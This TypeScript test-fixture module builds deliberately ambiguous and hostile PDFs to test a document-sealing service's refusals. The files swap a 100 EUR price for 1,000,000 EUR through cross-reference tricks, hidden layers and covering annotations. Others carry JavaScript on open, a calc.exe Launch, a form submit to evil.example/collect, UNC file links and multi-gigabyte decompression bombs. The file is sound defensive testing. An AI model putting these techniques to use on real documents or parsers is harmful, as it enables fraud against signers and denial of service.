// PDFs built byte by byte to be read differently by different parsers: the files of the
// outside review (issue 33), made here by the tests themselves. `writePdf` lays out objects,
// cross-reference tables and trailers exactly as told, wrong where a case wants it wrong.
// And files with active content, made with pdf-lib.
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

export type Part =
  /** `n 0 obj … endobj`. */
  | { object: number; body: string }
  /**
   * A cross-reference table for the objects defined since the last one (the first definition
   * of each, unless `pointAt` names the index of another part), its trailer (/Size, /Root 1 0 R,
   * /Prev of the section before unless `prev` says otherwise), startxref and %%EOF.
   */
  | { xref: true; pointAt?: Record<number, number>; prev?: 'self' | 'last' | number }
  /** Bytes as they are. */
  | { raw: string };

export function writePdf(parts: Part[]): Uint8Array {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  const xrefOffsets: number[] = [];
  let since = 0;
  let size = 1;
  parts.forEach((part, index) => {
    offsets[index] = out.length;
    if ('object' in part) {
      out += `${part.object} 0 obj\n${part.body}\nendobj\n`;
      size = Math.max(size, part.object + 1);
    } else if ('raw' in part) {
      out += part.raw;
    } else {
      const entries = new Map<number, number>();
      for (let at = since; at < index; at++) {
        const defined = parts[at] as Part;
        if ('object' in defined && !entries.has(defined.object))
          entries.set(defined.object, offsets[at] as number);
      }
      for (const [object, partIndex] of Object.entries(part.pointAt ?? {})) {
        entries.set(Number(object), offsets[partIndex] as number);
      }
      const here = out.length;
      out += 'xref\n0 1\n0000000000 65535 f \n';
      for (const [object, offset] of [...entries].sort((a, b) => a[0] - b[0])) {
        out += `${object} 1\n${String(offset).padStart(10, '0')} 00000 n \n`;
      }
      // 'last': the file's last section, known only at the end (written as ten digits, patched).
      const prev =
        part.prev === 'self' ? here : part.prev === 'last' ? lastMark : (part.prev ?? xrefOffsets.at(-1));
      out += `trailer\n<< /Size ${size} /Root 1 0 R${prev === undefined ? '' : ` /Prev ${prev}`} >>\nstartxref\n${here}\n%%EOF\n`;
      xrefOffsets.push(here);
      since = index + 1;
    }
  });
  out = out.replace(lastMark, String(xrefOffsets.at(-1)).padStart(lastMark.length, '0'));
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

const lastMark = '9999999999';

const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
export const pageContent = (text: string) => {
  const stream = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
};
const page = (contents: number) =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contents} 0 R /Resources << /Font << /F1 5 0 R >> >> >>`;

/** A one-page file whose page says `Total price: 100 EUR`, as objects 1 to 5. */
export function honestParts(price = '100 EUR'): Part[] {
  return [
    { object: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { object: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { object: 3, body: page(4) },
    { object: 4, body: pageContent(`Total price: ${price}`) },
    { object: 5, body: font },
  ];
}

/**
 * The review's files: every reader shows 100 EUR (they follow the table), and a parser that
 * keeps the last definition in file order would stamp and seal 1,000,000 EUR.
 */
export function ambiguousPdfs(): Array<[string, Uint8Array]> {
  const million = { object: 7, body: pageContent('Total price: 1,000,000 EUR') };
  return [
    [
      'the page tree defined twice, the table pointing at the first',
      writePdf([
        ...honestParts(),
        { object: 6, body: page(7) },
        million,
        { object: 2, body: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>' },
        { xref: true, pointAt: { 2: 1 } },
      ]),
    ],
    [
      'the page object defined twice, the table pointing at the first',
      writePdf([...honestParts(), million, { object: 3, body: page(7) }, { xref: true, pointAt: { 3: 2 } }]),
    ],
    [
      'a second page tree after the last section, in no table',
      writePdf([
        ...honestParts(),
        { object: 6, body: page(7) },
        million,
        { xref: true },
        { object: 2, body: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>' },
      ]),
    ],
    [
      'a table entry pointing at another object',
      writePdf([...honestParts(), million, { xref: true, pointAt: { 4: 5 } }]),
    ],
    ['a section whose /Prev is itself', writePdf([...honestParts(), { xref: true, prev: 'self' }])],
    [
      'two sections whose /Prev point at each other',
      writePdf([
        ...honestParts(),
        { xref: true, prev: 'last' },
        { object: 4, body: pageContent('Total price: 100 EUR') },
        { xref: true },
      ]),
    ],
    ['a /Prev into the middle of an object', writePdf([...honestParts(), { xref: true, prev: 30 }])],
  ];
}

/** An honest update: the second revision changes the price, and its table says so. */
export function updatedPdf(): Uint8Array {
  return writePdf([
    ...honestParts(),
    { xref: true },
    { object: 4, body: pageContent('Total price: 200 EUR') },
    { xref: true },
  ]);
}

async function onePage(change: (pdf: PDFDocument) => void | Promise<void>): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const added = pdf.addPage([612, 792]);
  added.drawText('Total price: 100 EUR', { x: 72, y: 700, size: 24 });
  await change(pdf);
  return pdf.save();
}

function annotate(pdf: PDFDocument, annotation: Record<string, unknown>): void {
  const ref = pdf.context.register(
    pdf.context.obj({ Type: 'Annot', Rect: [72, 600, 200, 640], ...annotation }),
  );
  pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([ref]));
}

const action = (pdf: PDFDocument, fields: Record<string, unknown>) =>
  pdf.context.obj({ Type: 'Action', ...fields });

/** Files with content a reader runs or opens, each with the words the refusal names it by. */
export function activeContentPdfs(): Array<[string, Promise<Uint8Array>, RegExp]> {
  const js = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };
  return [
    [
      'JavaScript run on opening',
      onePage((pdf) => pdf.catalog.set(PDFName.of('OpenAction'), action(pdf, js))),
      /JavaScript/,
    ],
    [
      'a document-level script',
      onePage((pdf) => {
        const script = pdf.context.register(action(pdf, js));
        const names = pdf.context.obj({ Names: [PDFString.of('init'), script] });
        pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ JavaScript: names }));
      }),
      /JavaScript/,
    ],
    [
      'a page script',
      onePage((pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: action(pdf, js) }))),
      /JavaScript/,
    ],
    [
      'a Launch action',
      onePage((pdf) =>
        annotate(pdf, { Subtype: 'Link', A: action(pdf, { S: 'Launch', F: PDFString.of('calc.exe') }) }),
      ),
      /starts a program/,
    ],
    [
      'a submit button',
      onePage((pdf) =>
        annotate(pdf, {
          Subtype: 'Widget',
          FT: 'Btn',
          T: PDFString.of('Submit'),
          A: action(pdf, { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
        }),
      ),
      /sends its data away/,
    ],
    [
      'an embedded file',
      onePage((pdf) =>
        pdf.attach(new Uint8Array([0x4d, 0x5a, 0x90, 0]), 'invoice.exe', {
          mimeType: 'application/x-msdownload',
        }),
      ),
      /embedded files/,
    ],
    [
      'a file attachment annotation',
      onePage((pdf) => {
        const file = pdf.context.register(pdf.context.stream('MZ', { Type: 'EmbeddedFile' }));
        annotate(pdf, {
          Subtype: 'FileAttachment',
          FS: pdf.context.obj({ Type: 'Filespec', F: PDFString.of('invoice.exe'), EF: { F: file } }),
        });
      }),
      /file attachments/,
    ],
    [
      'RichMedia',
      onePage((pdf) => annotate(pdf, { Subtype: 'RichMedia', RichMediaContent: pdf.context.obj({}) })),
      /RichMedia/,
    ],
    [
      'an XFA form',
      onePage((pdf) => {
        const xfa = pdf.context.register(pdf.context.stream('<xdp:xdp/>'));
        pdf.catalog.set(PDFName.of('AcroForm'), pdf.context.obj({ Fields: [], XFA: xfa }));
      }),
      /XFA/,
    ],
  ];
}

/** A plain link (a URI action): allowed under the seal. */
export function linkPdf(): Promise<Uint8Array> {
  return onePage((pdf) =>
    annotate(pdf, {
      Subtype: 'Link',
      A: action(pdf, { S: 'URI', URI: PDFString.of('https://example.com/terms') }),
    }),
  );
}

// --- Decompression bombs (issue 34) ---------------------------------------------------------

/** One megabyte of zeros deflated, ending on a byte boundary with no history: copies chain. */
const zeroBlockBytes = 1024 * 1024;
let zeroBlock: Buffer | undefined;

function adler32(data: Uint8Array, start = { a: 1, b: 0 }): { a: number; b: number } {
  let { a, b } = start;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return { a, b };
}

/**
 * A zlib stream of `head` followed by zeros up to `decodedBytes` in all, built from copies of
 * one deflated megabyte (about 1 KB each), so 1 GiB is made in milliseconds without 1 GiB.
 */
export function deflatedZeros(decodedBytes: number, head: Uint8Array = new Uint8Array(0)): Buffer {
  zeroBlock ??= deflateRawSync(Buffer.alloc(zeroBlockBytes), { finishFlush: constants.Z_FULL_FLUSH });
  const firstBytes = Math.min(decodedBytes, Math.max(head.length, zeroBlockBytes));
  const first = Buffer.alloc(firstBytes);
  first.set(head.subarray(0, firstBytes));
  const parts: Buffer[] = [
    Buffer.from([0x78, 0x9c]),
    deflateRawSync(first, { finishFlush: constants.Z_FULL_FLUSH }),
  ];
  let left = decodedBytes - firstBytes;
  while (left >= zeroBlockBytes) {
    parts.push(zeroBlock);
    left -= zeroBlockBytes;
  }
  if (left > 0) parts.push(deflateRawSync(Buffer.alloc(left), { finishFlush: constants.Z_FULL_FLUSH }));
  // The last block: empty, fixed Huffman, final; then the checksum of it all (zeros leave the
  // first sum as it is and add it to the second once per byte).
  parts.push(Buffer.from([0x03, 0x00]));
  const { a, b } = adler32(first);
  const zeros = decodedBytes - firstBytes;
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(((b + (zeros % 65521) * a) % 65521) * 65536 + a);
  parts.push(checksum);
  return Buffer.concat(parts);
}

export type BombKind = 'object-stream' | 'content-stream' | 'image' | 'chained';

const streamObject = (dict: string, data: Buffer) =>
  `<< ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;

/**
 * A one-page PDF (a few KB, a few MB at most) one of whose streams decodes to `decodedBytes`:
 * - 'object-stream': an object stream, which pdf-lib inflates while loading the file;
 * - 'content-stream': the page's content (white space after a line of text);
 * - 'image': an RGB image 4,096 pixels wide, as tall as the bytes make it, drawn on the page;
 * - 'chained': the page's content deflated twice ([/FlateDecode /FlateDecode]): a tiny file.
 */
export function bombPdf(kind: BombKind, decodedBytes: number): Uint8Array {
  const parts = honestParts();
  if (kind === 'object-stream') {
    const objects = '7 0 << /Bomb true >>';
    const data = deflatedZeros(decodedBytes, Buffer.from(objects, 'latin1'));
    parts.push({ object: 6, body: streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data) });
  } else if (kind === 'content-stream' || kind === 'chained') {
    const text = Buffer.from('BT /F1 24 Tf 72 700 Td (Total price: 100 EUR) Tj ET\n', 'latin1');
    const inner = deflatedZeros(decodedBytes, text);
    const [filter, data] =
      kind === 'chained'
        ? ['[/FlateDecode /FlateDecode]', deflateSync(inner, { level: 9 })]
        : ['/FlateDecode', inner];
    parts[3] = { object: 4, body: streamObject(`/Filter ${filter}`, data) };
  } else {
    const width = 4096;
    const height = Math.ceil(decodedBytes / (width * 3));
    const draw = 'q 468 0 0 600 72 100 cm /Im1 Do Q';
    parts[2] = {
      object: 3,
      body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> >>',
    };
    parts[3] = { object: 4, body: `<< /Length ${draw.length} >>\nstream\n${draw}\nendstream` };
    parts.push({
      object: 6,
      body: streamObject(
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`,
        deflatedZeros(width * height * 3),
      ),
    });
  }
  return writePdf([...parts, { xref: true }]);
}

/** A one-page PDF whose catalog holds `depth` arrays, each inside the one before. */
export function nestedPdf(depth: number): Uint8Array {
  const parts = honestParts();
  parts[0] = {
    object: 1,
    body: `<< /Type /Catalog /Pages 2 0 R /Nested ${'['.repeat(depth)}${']'.repeat(depth)} >>`,
  };
  return writePdf([...parts, { xref: true }]);
}

// --- One look (issue 48): files that readers, or screen and print, show differently ------

const million = 'BT /F1 24 Tf 72 700 Td (Total price: 1,000,000 EUR) Tj ET';
// The page says 100 EUR; inside the layer a white box covers it and says 1,000,000 EUR.
const layered = (mark: string) =>
  `BT /F1 24 Tf 72 700 Td (Total price: 100 EUR) Tj ET\n/OC /${mark} BDC 1 1 1 rg 60 690 500 40 re f 0 0 0 rg ${million} EMC`;
const streamOf = (text: string, dict = '') =>
  `<< ${dict} /Length ${text.length} >>\nstream\n${text}\nendstream`;

/**
 * A one-page file whose page content runs `content`, with `/Properties` `properties`,
 * `/OCProperties` `ocProperties` in the catalog, `/XObject` `xobjects`, and extra objects
 * from 6 on.
 */
function layeredPdf(options: {
  ocProperties?: string;
  properties?: string;
  xobjects?: string;
  content: string;
  objects: string[];
}): Uint8Array {
  const resources = `/Font << /F1 5 0 R >>${options.properties ? ` /Properties ${options.properties}` : ''}${options.xobjects ? ` /XObject ${options.xobjects}` : ''}`;
  return writePdf([
    {
      object: 1,
      body: `<< /Type /Catalog /Pages 2 0 R${options.ocProperties ? ` /OCProperties ${options.ocProperties}` : ''} >>`,
    },
    { object: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    {
      object: 3,
      body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << ${resources} >> >>`,
    },
    { object: 4, body: streamOf(options.content) },
    { object: 5, body: font },
    ...options.objects.map((body, i) => ({ object: 6 + i, body })),
    { xref: true },
  ]);
}

const usageGroup =
  '<< /Type /OCG /Name (Price) /Usage << /View << /ViewState /OFF >> /Print << /PrintState /ON >> >> >>';
const plainGroup = '<< /Type /OCG /Name (Price) >>';

/** Files with layers that readers show differently, each refused. */
export function optionalContentPdfs(): Array<[string, Uint8Array]> {
  const onePrice = (ocProperties: string, group: string) =>
    layeredPdf({ ocProperties, properties: '<< /oc1 6 0 R >>', content: layered('oc1'), objects: [group] });
  return [
    [
      'a layer off on screen and on in print (usage)',
      onePrice('<< /OCGs [6 0 R] /D << /Order [6 0 R] >> >>', usageGroup),
    ],
    [
      'the same with the default configuration’s /AS events for View and Print',
      onePrice(
        '<< /OCGs [6 0 R] /D << /Order [6 0 R] /AS [<< /Event /View /OCGs [6 0 R] /Category [/View] >> << /Event /Print /OCGs [6 0 R] /Category [/Print] >>] >> >>',
        usageGroup,
      ),
    ],
    [
      'a second configuration that turns the layer off',
      onePrice(
        '<< /OCGs [6 0 R] /D << /Order [6 0 R] >> /Configs [<< /Name (Alt) /OFF [6 0 R] >>] >>',
        plainGroup,
      ),
    ],
    ['a layer off by default', onePrice('<< /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>', plainGroup)],
    [
      'a membership dictionary that hides its content while its group is on (AllOff)',
      layeredPdf({
        ocProperties: '<< /OCGs [6 0 R] /D << >> >>',
        properties: '<< /oc1 7 0 R >>',
        content: layered('oc1'),
        objects: [plainGroup, '<< /Type /OCMD /OCGs [6 0 R] /P /AllOff >>'],
      }),
    ],
    [
      'a form XObject in a layer that is hidden while its group is on (/VE /Not)',
      layeredPdf({
        ocProperties: '<< /OCGs [6 0 R] /D << >> >>',
        xobjects: '<< /X1 8 0 R >>',
        content: 'BT /F1 24 Tf 72 700 Td (Total price: 100 EUR) Tj ET /X1 Do',
        objects: [
          plainGroup,
          '<< /Type /OCMD /VE [/Not 6 0 R] >>',
          streamOf(
            `1 1 1 rg 60 690 500 40 re f 0 0 0 rg ${million}`,
            '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /OC 7 0 R /Resources << /Font << /F1 5 0 R >> >>',
          ),
        ],
      }),
    ],
    [
      'marked content naming a layer the page does not have',
      layeredPdf({
        ocProperties: '<< /OCGs [6 0 R] /D << >> >>',
        properties: '<< /oc1 6 0 R >>',
        content: layered('nowhere'),
        objects: [plainGroup],
      }),
    ],
  ];
}

/** A layer every reader shows (on, no usage, one configuration): accepted. */
export function harmlessLayerPdf(): Uint8Array {
  return layeredPdf({
    ocProperties: '<< /OCGs [6 0 R] /D << /Order [6 0 R] /ON [6 0 R] >> >>',
    properties: '<< /oc1 6 0 R >>',
    content: `/OC /oc1 BDC BT /F1 24 Tf 72 700 Td (Total price: 100 EUR) Tj ET EMC`,
    objects: [plainGroup],
  });
}

// An annotation whose appearance is a white box saying 1,000,000 EUR over the page's price.
function coveringAnnotation(pdf: PDFDocument, fields: Record<string, unknown>): void {
  const appearance = pdf.context.register(
    pdf.context.stream(
      `1 1 1 rg 0 0 500 40 re f 0 0 0 rg BT /F1 24 Tf 12 10 Td (Total price: 1,000,000 EUR) Tj ET`,
      {
        Type: 'XObject',
        Subtype: 'Form',
        BBox: [0, 0, 500, 40],
        Resources: {
          Font: { F1: pdf.context.obj({ Type: 'Font', Subtype: 'Type1', BaseFont: 'Helvetica' }) },
        },
      },
    ),
  );
  const ref = pdf.context.register(
    pdf.context.obj({ Type: 'Annot', Rect: [60, 690, 560, 730], AP: { N: appearance }, ...fields }),
  );
  pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([ref]));
}

/** Annotations that show differently on screen and in print, or sit on top of the page: refused, with the words. */
export function annotationPdfs(): Array<[string, Promise<Uint8Array>, RegExp]> {
  return [
    [
      'a print-only annotation (/F 36)',
      onePage((pdf) => coveringAnnotation(pdf, { Subtype: 'FreeText', F: 36 })),
      /different content on screen and in print/,
    ],
    [
      'a screen-only annotation (no Print flag)',
      onePage((pdf) => coveringAnnotation(pdf, { Subtype: 'Stamp', F: 0 })),
      /different content on screen and in print/,
    ],
    [
      'a markup annotation shown alike everywhere',
      onePage((pdf) => coveringAnnotation(pdf, { Subtype: 'Square', F: 4 })),
      /comments, stamps, drawings or highlights/,
    ],
  ];
}

/** Open-time and page actions, and links that leave the file: refused, with the words. */
export function openTimeActionPdfs(): Array<[string, Promise<Uint8Array>, RegExp]> {
  const onOpen = (fields: Record<string, unknown>) =>
    onePage((pdf) => pdf.catalog.set(PDFName.of('OpenAction'), action(pdf, fields)));
  const byItself = /run by itself when the file is opened/;
  return [
    [
      'SetOCGState on opening',
      onePage((pdf) => {
        const group = pdf.context.register(pdf.context.obj({ Type: 'OCG', Name: PDFString.of('Price') }));
        pdf.catalog.set(PDFName.of('OpenAction'), action(pdf, { S: 'SetOCGState', State: ['ON', group] }));
      }),
      /turns layers on or off/,
    ],
    [
      'Hide on opening',
      onOpen({ S: 'Hide', T: PDFString.of('price'), H: false }),
      /shows or hides annotations/,
    ],
    [
      'GoToR to a UNC path on opening',
      onOpen({ S: 'GoToR', F: PDFString.of('\\\\server\\share\\x.pdf'), D: [0, 'Fit'] }),
      /opens another file/,
    ],
    ['URI on opening', onOpen({ S: 'URI', URI: PDFString.of('https://tracker.example/open') }), byItself],
    ['Named Print on opening', onOpen({ S: 'Named', N: 'Print' }), /named action other than turning pages/],
    ['Rendition on opening', onOpen({ S: 'Rendition', OP: 0 }), /media/],
    [
      'a page /AA with URI',
      onePage((pdf) =>
        pdf.getPage(0).node.set(
          PDFName.of('AA'),
          pdf.context.obj({
            O: action(pdf, { S: 'URI', URI: PDFString.of('https://tracker.example/page') }),
          }),
        ),
      ),
      byItself,
    ],
    [
      'a Link with GoToR',
      onePage((pdf) =>
        annotate(pdf, {
          Subtype: 'Link',
          A: action(pdf, { S: 'GoToR', F: PDFString.of('\\\\server\\share\\x.pdf'), D: [0, 'Fit'] }),
        }),
      ),
      /opens another file/,
    ],
    ['a 3D annotation', onePage((pdf) => annotate(pdf, { Subtype: '3D', F: 4 })), /media/],
  ];
}

/** A Link with GoTo to its own page, and a button that turns to the next page: allowed. */
export function goToLinkPdf(): Promise<Uint8Array> {
  return onePage((pdf) =>
    annotate(pdf, { Subtype: 'Link', A: action(pdf, { S: 'GoTo', D: [pdf.getPage(0).ref, 'Fit'] }) }),
  );
}

/**
 * A form made by pdf-lib (its own appearances): a text field saying `shown` and a check box,
 * checked. `tamper` changes it after the appearances are written.
 */
export async function formPdf(shown = 'Acme GmbH', tamper?: (pdf: PDFDocument) => void): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([612, 792]);
  page.drawText('Customer:', { x: 72, y: 706, size: 12 });
  const form = pdf.getForm();
  const text = form.createTextField('customer');
  text.addToPage(page, { x: 150, y: 700, width: 200, height: 24 });
  text.setText(shown);
  const box = form.createCheckBox('terms');
  box.addToPage(page, { x: 150, y: 660, width: 14, height: 14 });
  box.check();
  form.updateFieldAppearances();
  tamper?.(pdf);
  return pdf.save({ updateFieldAppearances: false });
}

/** Form fields whose value differs from what they show: refused. */
export function fieldValuePdfs(): Array<[string, Promise<Uint8Array>, RegExp]> {
  return [
    [
      'a text field whose /V differs from its appearance',
      formPdf('100 EUR', (pdf) =>
        pdf
          .getForm()
          .getTextField('customer')
          .acroField.dict.set(PDFName.of('V'), PDFString.of('1,000,000 EUR')),
      ),
      /form field \(“customer”\) whose value differs from what it shows/,
    ],
    [
      'a check box whose /AS differs from its /V',
      formPdf('Acme GmbH', (pdf) => {
        for (const widget of pdf.getForm().getCheckBox('terms').acroField.getWidgets())
          widget.dict.set(PDFName.of('AS'), PDFName.of('Off'));
      }),
      /form field \(“terms”\) whose value differs from what it shows/,
    ],
  ];
}

/**
 * A form field painted over a line of the page's text: `line` is in the text layer, the
 * field's white background hides it on the page. Underscores under a field are a line to
 * write on, and are accepted.
 */
export async function textUnderFieldPdf(line = 'Total price: 1,000,000 EUR'): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([612, 792]);
  page.drawText(line, { x: 72, y: 706, size: 12 });
  const field = pdf.getForm().createTextField('price');
  field.addToPage(page, { x: 60, y: 700, width: 300, height: 24 });
  field.setText('100 EUR');
  return pdf.save();
}

/** Entries of the wrong kind where the one-look rules look (a number for /AP, /D, /Widths …). */
export function misshapenPdfs(): Array<[string, Uint8Array]> {
  const parts = (annotation: string, catalog = '') => [
    { object: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { object: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    {
      object: 3,
      body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] >>',
    },
    { object: 4, body: pageContent('Total price: 100 EUR') },
    { object: 5, body: font },
    { object: 6, body: annotation },
    { object: 7, body: '42' },
    { xref: true } as Part,
  ];
  return [
    [
      'an annotation whose /AP is a number',
      writePdf(parts('<< /Type /Annot /Subtype /Widget /FT /Tx /V (x) /Rect [0 0 10 10] /AP 3 /F 4 >>')),
    ],
    [
      'an annotation whose /AP /N is an array',
      writePdf(parts('<< /Type /Annot /Subtype /Square /Rect [0 0 10 10] /AP << /N [1 2] >> /F 4 >>')),
    ],
    [
      'optional content whose /D is a number',
      writePdf(
        parts(
          '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] >>',
          '/OCProperties << /OCGs 5 /D 7 /Configs 3 >>',
        ),
      ),
    ],
    [
      'a field whose /Parent is a number and whose /Rect is a name',
      writePdf(parts('<< /Type /Annot /Subtype /Widget /Parent 9 /Rect /Big /AP << /N 4 0 R >> /F 4 >>')),
    ],
  ];
}

// --- Hybrid files (issue 48 §2) --------------------------------------------------------------

/**
 * A hybrid-reference file (ISO 32000-2 7.5.8.4), as Word's "Save as PDF" writes them: a table
 * for the top-level objects, and a cross-reference stream, named by the trailer's /XRefStm,
 * for the font, which sits in an object stream. Readers read the table, then the stream, then
 * /Prev. With `fontAgainAt`, the font is also defined top-level in the same revision and the
 * table points at that one: two definitions, one per reading, as an attacker would write it.
 */
export function hybridPdf(options: { fontAgainAt?: 'table' } = {}): Uint8Array {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = new Map<number, number>();
  const define = (object: number, body: string) => {
    offsets.set(object, out.length);
    out += `${object} 0 obj\n${body}\nendobj\n`;
  };
  const [catalog, pages, pageObject, content] = honestParts() as Array<{ object: number; body: string }>;
  for (const part of [catalog, pages, pageObject, content])
    define(part?.object as number, part?.body as string);
  const members = `5 0 ${font}`;
  define(6, `<< /Type /ObjStm /N 1 /First 4 /Length ${members.length} >>\nstream\n${members}\nendstream`);
  if (options.fontAgainAt) define(5, '<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>');
  // The stream: W [1 4 2], entries for 5 (in object stream 6, index 0), 6 and 7 (itself).
  const streamAt = out.length;
  const row = (type: number, field: number, third: number) => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(field, 1);
    bytes.writeUInt16BE(third, 5);
    return bytes.toString('latin1');
  };
  const rows = row(2, 6, 0) + row(1, offsets.get(6) as number, 0) + row(1, streamAt, 0);
  offsets.set(7, streamAt);
  out += `7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Index [5 3] /Length ${rows.length} >>\nstream\n${rows}\nendstream\nendobj\n`;
  const tableAt = out.length;
  const entry = (offset: number) => `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += 'xref\n0 5\n0000000000 65535 f \n';
  for (const object of [1, 2, 3, 4]) out += entry(offsets.get(object) as number);
  if (options.fontAgainAt) out += `5 1\n${entry(offsets.get(5) as number)}`;
  out += `6 1\n${entry(offsets.get(6) as number)}`;
  out += `trailer\n<< /Size 8 /Root 1 0 R /XRefStm ${streamAt} >>\nstartxref\n${tableAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}
